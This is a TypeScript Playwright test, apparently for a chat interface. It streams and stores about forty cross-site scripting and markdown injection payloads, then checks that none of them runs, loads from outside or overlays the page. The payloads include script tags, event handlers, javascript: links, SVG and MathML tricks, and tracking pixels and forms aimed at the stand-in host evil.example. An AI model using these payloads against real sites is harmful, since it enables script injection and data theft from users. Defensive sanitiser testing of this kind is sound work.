import { expect, test } from '../fixtures/index.js'
import { FakeChat } from './chat-page.js'
import type * as Module from './lab.js'

/** What a model may say to run something, to fetch something or to pass for a part of the page. */
const OUTPUTS: readonly string[] = [
  '<script>ran("script")</script>',
  'Text <script src="https://evil.example/a.js"></script> text',
  '<img src=x onerror="ran(\'onerror\')">',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '![pixel](//evil.example/pixel.png "title")',
  '![x" onerror="ran(1)](https://evil.example/b.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icmFuKDEpIi8+)',
  '![a](data:image/png;base64,AA"onerror=ran(1)//)',
  '[click](javascript:ran("link"))',
  '[click](JaVaScRiPt:ran("link"))',
  '[click](&#106;avascript:ran("link"))',
  '[click](java\tscript:ran("link"))',
  '<javascript:ran("auto")>',
  '[click](data:text/html,<script>ran("data")</script>)',
  '[click](vbscript:ran(1))',
  '[click](blob:https://evil.example/x)',
  '[click]( #/settings )',
  '[ref]\n\n[ref]: javascript:ran("ref")',
  '<a href="javascript:ran(1)">a</a>',
  '<svg onload="ran(\'svg\')"><script>ran("svg script")</script></svg>',
  '<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="ran(\'mathml\')">',
  '<math href="javascript:ran(1)">x</math>',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<style>body { background: url(https://evil.example/css.png); display: none }</style>',
  '<p style="background: url(https://evil.example/inline.png)">styled</p>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="key"><button>Send</button></form>',
  '<details open ontoggle="ran(\'toggle\')">x</details><video src=x onerror=ran(1)></video>',
  '<input autofocus onfocus="ran(\'focus\')"><body onload="ran(1)">',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
  '<div id="app" class="dialog">over</div><p id="sidebar">x</p>',
  '```html\n<script>ran("fence")</script><img src=x onerror=ran(1)>\n```',
  '```js"><img src=x onerror=ran(1)>\nlet a = "</code></pre><script>ran(1)</script>"\n```',
  '| a <img src=x onerror=ran(1)> | b |\n|---|---|\n| <script>ran(1)</script> | [x](javascript:ran(1)) |',
  '- <img src=x onerror=ran(1)>\n  ```js\n  </code><img src=x onerror=ran(1)>\n  ```',
  '`<img src=x onerror=ran(1)>` and **<img src=x onerror=ran(1)>**',
  '<!--><img src=x onerror=ran(1)>-->',
  '<![CDATA[<img src=x onerror=ran(1)>]]>',
  '&lt;img src=x onerror=ran(1)&gt; &#60;script&#62;ran(1)&#60;/script&#62;',
]

/** What our server sends is stricter; this lets a script in, so that what did not run was not there. */
test('nothing of what a model says runs, leaves the page or passes for it', async ({ openLab, context }) => {
  const { page, lab, server } = await openLab<typeof Module>(new URL('lab.tsx', import.meta.url))
  const chat = new FakeChat(page, lab)
  const outside: string[] = []
  await context.route(
    (url) => url.origin !== server.url,
    (route) => {
      outside.push(route.request().url())
      return route.abort()
    },
  )
  await page.evaluate(() => {
    const ran: unknown[] = []
    Object.assign(globalThis, { didRun: ran, ran: (what: unknown) => ran.push(what) })
  })
  // Streamed, a few characters at a time, so that every half of it is rendered as well …
  await chat.send('Try')
  await chat.lab.evaluate(async (module, outputs) => {
    for (const output of outputs) {
      for (let at = 0; at < output.length; at += 7) {
        module.asked().text(output.slice(at, at + 7))
        await new Promise((resolve) => requestAnimationFrame(resolve))
      }
      module.asked().text('\n\n---\n\n')
    }
    module.asked().think('<img src=x onerror=ran(1)> ![p](https://evil.example/t.png)')
    module.asked().text('The end.')
    module.asked().finish()
  }, OUTPUTS)
  await expect(chat.answers).toContainText('The end.')
  await page.getByText('Thoughts').click()
  // … and each by itself, as stored, with titles and questions that are no better.
  await chat.lab.evaluate(
    (module, outputs) =>
      module.store(
        'bad',
        '<img src=x onerror=ran(1)>',
        outputs.flatMap((output) => [output, output]),
      ),
    OUTPUTS,
  )
  await page.evaluate(() => (location.hash = '#/chat/bad'))
  const scroller = page.getByRole('region', { name: 'Messages' })
  const found = { elements: new Set<string>(), addresses: new Set<string>(), targets: new Set<string>() }
  const look = async () => {
    const seen = await page.evaluate(() => {
      const all = [...document.querySelectorAll('.md *')].filter(
        (element) => element.closest('.code-head, svg.icon') === null,
      )
      const bad = all.flatMap((element) =>
        [...element.attributes]
          .filter(
            ({ name }) => name.startsWith('on') || name === 'style' || name === 'id' || name === 'srcset',
          )
          .map(({ name }) => `${element.tagName}[${name}]`),
      )
      const links = all.filter((element) => element instanceof HTMLAnchorElement)
      return {
        bad,
        elements: all.map((element) => element.tagName.toLowerCase()),
        addresses: [
          ...links.flatMap((link) => link.getAttribute('href') ?? []),
          ...all.flatMap((element) => element.getAttribute('src') ?? []),
        ],
        targets: links.map((link) => `${link.target} ${link.rel}`),
      }
    })
    expect(seen.bad).toEqual([])
    for (const element of seen.elements) found.elements.add(element)
    for (const address of seen.addresses) found.addresses.add(address)
    for (const target of seen.targets) found.targets.add(target)
  }
  await expect(page.locator('.message').last()).toContainText('ran(1)')
  for (let part = 0; part <= 20; part += 1) {
    await scroller.evaluate((element, share) => (element.scrollTop = share * element.scrollHeight), part / 20)
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    )
    await look()
  }
  const allowed =
    'a blockquote br button code del div em h3 h4 h5 h6 hr img li ol p path pre span strong svg table tbody td th thead tr ul'
  expect([...found.elements].filter((name) => !allowed.split(' ').includes(name))).toEqual([])
  expect(
    [...found.addresses].filter((address) => !/^(?:https:\/\/|data:image\/png;base64,)/.test(address)),
  ).toEqual([])
  expect([...found.addresses].some((address) => address.startsWith('https://evil.example/'))).toBe(true)
  expect([...found.targets]).toEqual(['_blank noopener noreferrer nofollow'])
  // Every link that is left is pressed.
  await page.evaluate(() => {
    addEventListener('click', (event) => event.preventDefault())
    for (const link of document.querySelectorAll<HTMLAnchorElement>('.md a')) link.click()
  })
  expect(await page.evaluate(() => Reflect.get(globalThis, 'didRun'))).toEqual([])
  expect(outside).toEqual([])
  await expect(page.locator('.shell-main')).toBeVisible()
})
